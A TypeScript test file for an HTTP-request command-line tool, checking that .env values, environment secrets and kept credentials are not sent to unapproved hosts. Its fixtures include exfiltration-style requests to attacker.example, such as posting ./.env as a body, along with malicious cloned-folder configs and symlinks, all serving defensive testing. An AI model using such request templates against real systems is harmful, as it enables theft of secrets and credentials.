import { chmodSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { commandLine, folderOf } from '../command-line';

/** A server that keeps everything that reaches it, also as a proxy. */
async function startListener(answer: (url: string) => string = () => '{}') {
  const received: string[] = [];
  const server: Server = createServer((request, response) => {
    const pieces: Buffer[] = [];
    request.on('data', (piece: Buffer) => pieces.push(piece));
    request.on('end', () => {
      const { url = '', headers } = request;
      received.push(`${url}\n${JSON.stringify(headers)}\n${Buffer.concat(pieces).toString()}`);
      response.setHeader('content-type', 'application/json');
      response.end(answer(url));
    });
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  onTestFinished(() => {
    server.closeAllConnections();
    server.close();
  });
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { url, received };
}

/** A folder of settings of the user, with credentials that are kept in it. */
function userFolder() {
  const folder = folderOf({});
  mkdirSync(join(folder, 'rulebook'), { mode: 0o700 });
  return { env: { XDG_CONFIG_HOME: folder }, file: join(folder, 'rulebook', 'credentials.json') };
}

const canary = 'canary-4713';

describe('a private value on the command line', () => {
  it.each([
    [
      'a variable of the environment',
      'X: {{$processEnv OTHER}}',
      'the environment variable OTHER has not been sent to',
    ],
    ['a secret of the environment', 'X: {{$secret s}}', 'the environment variable RULEBOOK_SECRET_S has not been sent'],
    ['a credential by its variable', 'X: {{$processEnv RULEBOOK_CREDENTIAL_PROD}}', 'are for Rulebook itself'],
    ['the same as JetBrains writes it', 'X: {{$env.RULEBOOK_CREDENTIAL_PROD}}', 'are for Rulebook itself'],
  ])('stays here: %s', async (_, field, message) => {
    const { url, received } = await startListener();
    const cwd = folderOf({ 'a.http': `GET ${url}/steal\n${field}\n` });
    const env = { OTHER: canary, RULEBOOK_SECRET_S: canary, RULEBOOK_CREDENTIAL_PROD: canary };
    const { code, error } = await commandLine(['run', 'a.http'], { cwd, env });
    expect({ code, received }).toEqual({ code: 3, received: [] });
    expect(error).toContain(message);
    expect(error).not.toContain(canary);
  });

  it('goes where an option of the command says', async () => {
    const { url, received } = await startListener();
    const cwd = folderOf({ 'a.http': `GET ${url}/a\nX: {{$processEnv OTHER}}\n` });
    const refused = await commandLine(['run', 'a.http'], { cwd, env: { OTHER: canary } });
    expect(refused.error).toContain(`add --allow-origin ${url}`);
    const { code } = await commandLine(['run', '--allow-origin', `${url}/any`, 'a.http'], {
      cwd,
      env: { OTHER: canary },
    });
    expect(code).toBe(0);
    expect(received.join()).toContain(canary);
    expect((await commandLine(['run', '--allow-origin', 'prod', 'a.http'], { cwd })).code).toBe(2);
  });

  it.each([
    ['an endpoint', '# @endpoint own\n# @insecure\nGET /_cluster/health', 'add --trust-endpoint own'],
    ['a host', '# @insecure\nGET https://x.example/', 'remove `# @insecure`'],
  ])('is refused with a step that helps where a certificate of %s is not verified', async (_, request, step) => {
    const endpoints = { own: { service: 'search-cluster', baseUrl: 'https://own.example' } };
    const cwd = folderOf({
      'rulebook.json': JSON.stringify({ endpoints }),
      'a.http': `${request}\nX: {{$processEnv OTHER}}\n`,
    });
    const { code, error } = await commandLine(['run', '--yes', 'a.http'], { cwd, env: { OTHER: canary } });
    expect(code).toBe(3);
    expect(error).toContain(`unverified before; if that is meant, ${step}`);
  });

  it('is not shown where it is in a host', async () => {
    const proxy = await startListener((url) => JSON.stringify({ url }));
    const cwd = folderOf({ '.env': 'S=Canary4713\n', 'a.http': 'GET http://{{$dotenv S}}.x.example/a\n' });
    const env = { http_proxy: proxy.url };
    const refused = await commandLine(['run', 'a.http'], { cwd, env });
    expect(refused.code).toBe(3);
    expect(refused.error).toContain('add --allow-origin http://***.x.example');
    const args = ['run', '--allow-origin', 'http://canary4713.x.example', '--har', 'a.har', 'a.http'];
    const sent = await commandLine(args, { cwd, env });
    expect(sent.code).toBe(0);
    expect(proxy.received.join()).toContain('canary4713');
    expect(refused.error + sent.out + readFileSync(join(cwd, 'a.har'), 'utf8')).not.toMatch(/canary/i);
  });

  const files = {
    '.env': `S=${canary}\n`,
    'http-client.private.env.json': JSON.stringify({ dev: { token: canary } }),
    'b.http': '',
  };

  it.each([
    ['a value of .env', 'GET http://attacker.example/?d={{$dotenv S}}'],
    ['a value of a private environment', 'GET http://attacker.example/\nX: {{token}}'],
    ['.env as the body', 'POST http://attacker.example/\nContent-Type: text/plain\n\n< ./.env'],
    ['.env as a filled body', 'POST http://attacker.example/\nContent-Type: text/plain\n\n<@ ./.env'],
    [
      'a private environment as a part',
      'POST http://attacker.example/\nContent-Type: multipart/form-data; boundary=b\n\n--b\nContent-Disposition: form-data; name="f"; filename="f"\n\n< ./http-client.private.env.json\n--b--',
    ],
    ['.env behind a link', 'POST http://attacker.example/\nContent-Type: text/plain\n\n< ./note.txt'],
  ])('of the folder does not go to a host that no one named: %s', async (_, request) => {
    const proxy = await startListener();
    const cwd = folderOf({ ...files, 'a.http': `${request}\n` });
    symlinkSync('.env', join(cwd, 'note.txt'));
    // The user's own proxy shows what would be sent, whatever the host is.
    const env = { http_proxy: proxy.url };
    const args = ['run', '--env', 'dev', 'a.http'];
    const { code, error } = await commandLine(args, { cwd, env });
    expect({ code, received: proxy.received }).toEqual({ code: 3, received: [] });
    expect(error).toContain('add --allow-origin http://attacker.example');
    expect(error).not.toContain(canary);
    expect((await commandLine([...args, '--allow-origin', 'http://attacker.example'], { cwd, env })).code).toBe(0);
    expect(proxy.received.join()).toContain(canary);
  });

  it('is never one that a response names', async () => {
    const answer = JSON.stringify({ id: '{{$processEnv OTHER}}', url: '{{$dotenv S}}' });
    const { url, received } = await startListener((path) => (path === '/login' ? answer : '{}'));
    const cwd = folderOf({
      '.env': `S=${canary}\n`,
      'a.http': `# @name login\nGET ${url}/login\n\n###\nPOST ${url}/next?u={{login.response.body.$.url}}\nX: {{login.response.body.$.id}}\n\n{{login.response.body.$.*}}\n`,
    });
    await commandLine(['run', '--all', 'a.http'], { cwd, env: { OTHER: canary } });
    expect(received).toHaveLength(2);
    expect(received.join()).not.toContain(canary);
    expect(received[1]).toContain('"{{$processEnv OTHER}}"');
  });

  it('asks nothing in the ordinary cases', async () => {
    const proxy = await startListener();
    const env = { http_proxy: proxy.url };
    const cwd = folderOf({
      '.env': `BASE_URL=http://api.own.example/v1\nTOKEN=${canary}\n`,
      'sub/rulebook.json': '{}',
      'a.http': 'GET {{BASE_URL}}/a\nAuthorization: Bearer {{TOKEN}}\n',
      'b/rulebook.json': JSON.stringify({
        endpoints: { api: { service: 'search-cluster', baseUrl: 'http://other.own.example' } },
      }),
      'b/.env': `TOKEN=${canary}\n`,
      'b/b.http': '# @endpoint api\nGET /_cluster/health\nAuthorization: Bearer {{TOKEN}}\n',
    });
    for (const path of ['a.http', 'b/b.http'])
      expect(await commandLine(['run', path], { cwd, env })).toMatchObject({ code: 0 });
    expect(proxy.received).toHaveLength(2);
  });

  it("does not follow a variable of a stranger's folder below", async () => {
    const proxy = await startListener();
    const cwd = folderOf({
      '.env': `TOKEN=${canary}\n`,
      'clone/rulebook.json': JSON.stringify({
        endpoints: { api: { service: 'search-cluster', baseUrl: 'http://attacker.example' } },
      }),
      'clone/http-client.env.json': JSON.stringify({ dev: { base: 'http://attacker.example' } }),
      'clone/a.http': 'GET {{base}}/a\nX: {{$dotenv TOKEN}}\n',
      'clone/b.http': '# @endpoint api\nGET /_cluster/health\nX: {{TOKEN}}\n',
    });
    for (const path of ['clone/a.http', 'clone/b.http']) {
      const { code } = await commandLine(['run', '--env', 'dev', path], { cwd, env: { http_proxy: proxy.url } });
      expect({ path, code }).toEqual({ path, code: 3 });
    }
    expect(proxy.received).toEqual([]);
  });

  it.each([
    ['.env', '../.env', 'X: {{$dotenv TOKEN}}'],
    ['.env', '../.env', 'X: {{TOKEN}}'],
    ['local.env', '../.env', 'X: {{TOKEN}}', 'local'],
    ['http-client.private.env.json', '../http-client.private.env.json', 'X: {{token}}'],
    ['env', '..', 'X: {{TOKEN}}'],
    ['env', '..', 'X: {{token}}'],
  ])("is not a stranger's by a link of theirs: %s -> %s, %s", async (link, target, field, environment = 'dev') => {
    const proxy = await startListener();
    const cwd = folderOf({
      '.env': `TOKEN=${canary}\n`,
      'http-client.private.env.json': JSON.stringify({ dev: { token: canary } }),
      'clone/rulebook.json': JSON.stringify({
        endpoints: { api: { service: 'search-cluster', baseUrl: 'http://attacker.example' } },
      }),
      'clone/http-client.env.json': JSON.stringify({ dev: { base: 'http://attacker.example' } }),
      'clone/a.http': `# @endpoint api\nGET /_cluster/health\n${field}\n`,
    });
    symlinkSync(target, join(cwd, 'clone', link));
    const args = ['run', '--env', environment, 'clone/a.http'];
    const { code, error } = await commandLine(args, { cwd, env: { http_proxy: proxy.url } });
    expect({ code, received: proxy.received }).toEqual({ code: 3, received: [] });
    expect(error).toContain('has not been sent to http://attacker.example before');
  });

  it('may go to the endpoints of a folder that is reached by a link itself', async () => {
    const proxy = await startListener();
    const cwd = folderOf({
      'own/.env': `TOKEN=${canary}\n`,
      'own/rulebook.json': JSON.stringify({
        endpoints: { api: { service: 'search-cluster', baseUrl: 'http://own.example' } },
      }),
      'own/a.http': '# @endpoint api\nGET /_cluster/health\nX: {{TOKEN}}{{$dotenv TOKEN}}\n',
      'own/b.http': '# @endpoint api\nPOST /a/_doc\nContent-Type: text/plain\n\n< .env\n',
    });
    symlinkSync('own', join(cwd, 'link'));
    for (const path of ['link/a.http', 'link/b.http'])
      expect(await commandLine(['run', '--send-anyway', path], { cwd, env: { http_proxy: proxy.url } })).toMatchObject({
        code: 0,
      });
    expect(proxy.received).toHaveLength(2);
  });
});

describe('a kept credential', () => {
  const base = 'http://es.corp.example:9200';
  const configuration = (more: object) =>
    JSON.stringify({ endpoints: { sec: { service: 'search-cluster', baseUrl: base, ...more } } });
  const request = '# @endpoint sec\nGET /_cluster/health\n';

  it("does not go by a stranger's proxy, and neither does a kept secret", async () => {
    const proxy = await startListener();
    const { env } = userFolder();
    const own = folderOf({ 'rulebook.json': configuration({}), 'a.http': request });
    expect((await commandLine(['credential', 'set', 'sec'], { cwd: own, env, input: canary })).code).toBe(0);
    expect((await commandLine(['credential', 'set-secret', 'tok', base], { cwd: own, env, input: canary })).code).toBe(
      0,
    );
    const clone = folderOf({
      'rulebook.json': configuration({ proxy: proxy.url }),
      'a.http': request,
      'b.http': `${request.trimEnd()}\nAuthorization: none\nX: {{$secret tok}}\n`,
    });
    await commandLine(['run', 'a.http'], { cwd: clone, env });
    const { code, error } = await commandLine(['run', 'b.http'], { cwd: clone, env });
    expect(code).toBe(3);
    expect(error).toContain(`is kept for ${base} only, and the request goes to ${base} through ${proxy.url}`);
    expect(proxy.received.join()).not.toContain(canary);
    // The same proxy in the user's own environment is the user's.
    await commandLine(['run', 'a.http'], { cwd: own, env: { ...env, http_proxy: proxy.url } });
    expect(proxy.received.join()).toContain(canary);
  });

  it.each([
    ['insecure', { insecure: true }],
    ['ca', { ca: './c.pem' }],
    ['a proxy', { proxy: 'http://127.0.0.1:1' }],
  ])('is not found for an endpoint with %s that it was not kept for', async (_, more) => {
    const { env } = userFolder();
    const https = { baseUrl: base.replace('http:', 'https:') };
    const own = folderOf({ 'rulebook.json': configuration(https) });
    await commandLine(['credential', 'set', 'sec'], { cwd: own, env, input: canary });
    const clone = folderOf({ 'rulebook.json': configuration({ ...https, ...more }), 'a.http': request, 'c.pem': '' });
    const { out } = await commandLine(['curl', '--show-secrets', 'a.http'], { cwd: clone, env });
    expect(out).toContain(base.slice(5));
    expect(out).not.toContain(canary);
  });

  it('goes to no device URL that it was not kept for', async () => {
    const service = await startListener();
    const stranger = await startListener();
    const { env } = userFolder();
    const endpoint = (deviceUrl: string) => ({
      baseUrl: service.url,
      authentication: {
        ...{ type: 'oauth2', tokenUrl: `${service.url}/token`, clientId: 'cid', clientAuthentication: 'body' },
        ...{ flow: 'device', scopes: ['zz'], deviceUrl: `${deviceUrl}/device` },
      },
    });
    const own = folderOf({ 'rulebook.json': configuration(endpoint(service.url)) });
    const kept = await commandLine(['credential', 'set', 'sec'], { cwd: own, env, input: canary });
    expect(kept.error).toContain(`goes to ${service.url} only`);
    const clone = folderOf({ 'rulebook.json': configuration(endpoint(stranger.url)), 'a.http': request });
    await commandLine(['run', 'a.http'], { cwd: clone, env });
    expect(stranger.received.join()).not.toContain(canary);
    const variables = { RULEBOOK_CREDENTIAL_SEC: canary, RULEBOOK_ENDPOINT_SEC: service.url };
    const { error } = await commandLine(['run', 'a.http'], { cwd: clone, env: { ...env, ...variables } });
    expect(error).toContain(`${service.url} and ${stranger.url}`);
    expect(stranger.received.join()).not.toContain(canary);
  });

  it('is not lost when another one is kept', async () => {
    const { env, file } = userFolder();
    const endpoints = {
      sec: { service: 'search-cluster', baseUrl: base },
      two: { service: 'search-cluster', baseUrl: base },
    };
    const cwd = folderOf({ 'rulebook.json': JSON.stringify({ endpoints }) });
    await commandLine(['credential', 'set', 'sec'], { cwd, env, input: canary });
    const before = readFileSync(file, 'utf8');
    const keepAnother = () => commandLine(['credential', 'set', 'two'], { cwd, env, input: 'other' });
    chmodSync(file, 0o644);
    const loose = await keepAnother();
    expect(loose).toMatchObject({ code: 2 });
    expect(loose.error).toContain(`other users can read it; run "chmod 600 ${file}"`);
    expect(readFileSync(file, 'utf8')).toBe(before);
    chmodSync(file, 0o600);
    writeFileSync(`${file}.real`, before, { mode: 0o600 });
    const { rmSync } = await import('node:fs');
    rmSync(file);
    symlinkSync(`${file}.real`, file);
    expect(await keepAnother()).toMatchObject({ code: 2 });
    expect(readFileSync(`${file}.real`, 'utf8')).toBe(before);
    rmSync(file);
    writeFileSync(file, '{', { mode: 0o600 });
    expect((await keepAnother()).error).toContain('it is not valid JSON');
  });
});

describe('check', () => {
  it('reports an endpoint whose certificate is not verified, in its rulebook.json', async () => {
    const endpoint = { service: 'search-cluster', baseUrl: 'https://es.corp.example', insecure: true };
    const cwd = folderOf({ 'rulebook.json': JSON.stringify({ endpoints: { sec: endpoint } }), 'a.http': 'GET /\n' });
    for (const path of ['rulebook.json', '.']) {
      const { out, error } = await commandLine(['check', path], { cwd });
      expect(out.match(/insecure-tls/g)).toHaveLength(1);
      expect(error).not.toContain('certificate');
    }
  });
});
